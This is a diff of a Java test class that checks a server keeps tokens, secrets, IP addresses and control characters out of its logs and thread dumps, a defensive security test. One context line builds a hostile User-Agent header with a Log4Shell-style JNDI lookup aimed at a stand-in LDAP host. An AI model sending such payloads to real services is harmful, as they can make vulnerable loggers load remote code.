@@ -6,7 +6,10 @@ import ch.qos.logback.classic.Level;
 import ch.qos.logback.classic.Logger;
 import ch.qos.logback.classic.spi.ILoggingEvent;
 import ch.qos.logback.core.read.ListAppender;
+import com.sun.management.HotSpotDiagnosticMXBean;
 import java.io.IOException;
+import java.lang.management.ManagementFactory;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.Arrays;
@@ -476,7 +479,7 @@ class AtTheDoorInEarnestTest {
   // ---- ops-03
 
   @Test
-  void no_word_token_address_or_secret_reaches_the_log() {
+  void no_word_token_address_or_secret_reaches_the_log() throws IOException {
     Logger root = (Logger) LoggerFactory.getLogger("verbatim");
     Level was = root.getLevel();
     ListAppender<ILoggingEvent> lines = new ListAppender<>();
@@ -498,6 +501,19 @@ class AtTheDoorInEarnestTest {
             token,
             Map.of("status", "quixotry #quixotry", "visibility", visibility));
       }
+      Stranger other = somebody();
+      String otherToken = member(other, "zymurgy_other");
+      secrets.add(otherToken);
+      String otherId =
+          other.api("GET", "/api/v1/accounts/verify_credentials", otherToken, null).text("id");
+      String all = "/api/v1/private/conversations";
+      String talk =
+          who.api("POST", all, token, Map.of("members", List.of(otherId))).text("id");
+      Stranger.Reply said =
+          who.api(
+              "POST", all + "/" + talk + "/messages", token, Map.of("text", "quixotry in private"));
+      assertThat(said.status()).as(said.body()).isEqualTo(200);
+      assertThat(other.api("GET", all, otherToken, null).body()).contains("quixotry in private");
       String hostile = "quixotry[31m ${jndi:ldap://quixotry.example/a}" + "x".repeat(4_000);
       who.api(
           "GET", "/api/v1/timelines/tag/quixotry?q=quixotry", token, null, "User-Agent", hostile);
@@ -522,6 +538,9 @@ class AtTheDoorInEarnestTest {
       forgets("zymurgy_name@mail.example");
       server.sendLetters();
       server.settle();
+      assertThat(threadDump().toLowerCase(Locale.ROOT))
+          .contains("reactions")
+          .doesNotContain(lowerCased(secrets));
     } finally {
       root.detachAppender(lines);
       root.setLevel(was);
@@ -535,10 +554,21 @@ class AtTheDoorInEarnestTest {
               + " "
               + Arrays.toString(line.getArgumentArray());
       assertThat(said.toLowerCase(Locale.ROOT))
-          .doesNotContain(
-              secrets.stream().map(s -> s.toLowerCase(Locale.ROOT)).toArray(String[]::new));
+          .doesNotContain(lowerCased(secrets));
       assertThat(said).doesNotContain("203.0.", "\n", "\r", "\u001b").hasSizeLessThan(8_000);
     }
+  }
+
+  private static String[] lowerCased(List<String> secrets) {
+    return secrets.stream().map(s -> s.toLowerCase(Locale.ROOT)).toArray(String[]::new);
+  }
+
+  /// What an operator would be asked for when the server hangs: all threads, the virtual ones too.
+  private static String threadDump() throws IOException {
+    Path file = folder.resolve("threads.json").toAbsolutePath();
+    ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class)
+        .dumpThreads(file.toString(), HotSpotDiagnosticMXBean.ThreadDumpFormat.JSON);
+    return Files.readString(file);
   }
 
   // ---- ops-04, ops-06
